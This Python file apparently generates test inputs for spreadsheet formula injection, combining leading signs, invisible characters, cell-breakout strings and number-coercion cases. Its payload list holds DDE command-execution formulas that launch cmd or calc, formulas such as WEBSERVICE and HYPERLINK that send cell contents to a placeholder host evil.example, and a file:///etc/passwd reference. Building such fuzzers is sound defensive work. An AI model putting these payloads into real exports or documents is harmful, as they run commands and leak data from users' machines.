"""What people could type into a form to have a spreadsheet program run it as a formula, and what
such a program would take for a number or a day."""

import random
from collections.abc import Iterator

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁼", "−", "|", "%"]
BEFORE = ["", "\t", "\r", "\n", "\r\n", " ", "\u3000", "\xa0", "\u200b", "\ufeff", "\u202e", " \t"]
FORMULAS = [
    "1+1",
    "1+1|cmd",
    "A1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://evil.example/?x="&A2;"点我")',
    'HYPERLINK("http://evil.example/?x="&A2,"点我")',
    'WEBSERVICE("http://evil.example/?x="&A2)',
    'IMPORTXML(CONCAT("http://evil.example/?x=",A2:A9),"//a")',
    'IMAGE("http://evil.example/?x="&A2)',
    'INDIRECT("A"&"1")',
    '"x"&A1',
    "'file:///etc/passwd'#$passwd.A1",
    "１＋１",
]
# These try to end the cell that they stand in; behind it, the next one begins with a formula.
BREAKING_OUT = [
    'x",=1+1,"',
    'x",=1+1',
    'x"\r\n=1+1,"',
    'x"\n=1+1\n"',
    "x,=1+1,y",
    "x;=1+1;y",
    'x";=1+1;"y',
    "x\t=1+1\ty",
    "x\n=1+1",
    "x\r=1+1",
    '"=1+1"',
    '"";=1+1',
    "';=1+1",
    "{=1+1}",
    '\\",=1+1,\\"',
    "</t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
]
# Texts that a program would change where it takes them for numbers.
NUMBERS = [
    "013800138000",
    "+8613800138000",
    "+86 138 0013 8000",
    "0086-138-0013-8000",
    "0756-2220000",
    "07562220000",
    "1.38E+10",
    "138E4779",
    "007",
    "1-2",
    "3/4",
    "12:30",
    "1,234",
    "(12)",
    "50%",
    "￥5",
    "１３８",
    "440402199001011234567",
]
PHONES = ["13800138000", "19912345678", "15000000000", "17301020304"]


def payloads(count: int) -> Iterator[str]:
    """Each sign and each way to break out first, then mixtures."""
    first = [*(sign + FORMULAS[0] for sign in SIGNS), *(f"{each}=1+1" for each in BEFORE)]
    first += [*BREAKING_OUT, *NUMBERS, *(f"={each}" for each in FORMULAS)]
    yield from first[:count]
    chance = random.Random(5)  # noqa: S311 - variety only
    for _more in range(count - len(first)):
        formula = chance.choice(BEFORE) + chance.choice(SIGNS) + chance.choice(FORMULAS)
        yield formula if chance.random() < 0.8 else chance.choice(BREAKING_OUT) + formula
